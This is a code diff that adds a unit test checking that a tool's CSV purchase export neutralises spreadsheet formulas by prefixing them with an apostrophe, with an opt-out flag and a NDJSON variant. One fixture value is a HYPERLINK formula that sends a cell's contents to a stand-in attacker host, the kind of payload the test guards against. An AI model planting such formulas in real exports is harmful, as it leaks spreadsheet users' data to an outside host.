@@ -338,6 +338,28 @@ class Commands(Room, ServiceCase):
         rows = list(csv.DictReader(io.StringIO(self.fine("export", "purchases", name))))
         self.assertEqual([row["payment_reference"] for row in rows], [f"{name},\"{number}" for number in range(12)])
 
+    def test_export_of_formulas(self):
+        """What a spreadsheet would calculate begins with an apostrophe in CSV, unless it is kept; --bom marks UTF-8."""
+        name, _, _ = self.make(1_000)
+        plain = ["A=1", "1+1", "'", "a-b@c.example", "é"]
+        formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2", "@SUM(A1)", "\uff1d1"]
+        for reference in plain + formulas:
+            self.sell(name, payment_reference=f"{reference}{name}")
+
+        def read(*more):
+            text = self.fine("export", "purchases", name, *more)
+            return [row["payment_reference"][:-len(name)] for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+        self.assertEqual(read(), plain + ["'" + formula for formula in formulas])
+        self.assertEqual(read("--keep-formulas"), plain + formulas)
+        marked = self.fine("export", "purchases", name, "--bom")
+        self.assertEqual(marked, "\ufeff" + self.fine("export", "purchases", name))
+        ndjson = self.fine("export", "purchases", name, "--format", "ndjson")
+        self.assertEqual([json.loads(line)["payment_reference"][:-len(name)] for line in ndjson.splitlines()],
+                         plain + formulas)
+        for flag in ("--bom", "--keep-formulas"):
+            self.assertEqual(self.run_it("export", "purchases", name, "--format", "ndjson", flag).returncode, 64)
+
     def test_export_and_files(self):
         """A file that is there is kept unless it is forced; where none can be made, that is said; nothing is left."""
         room = self.room()
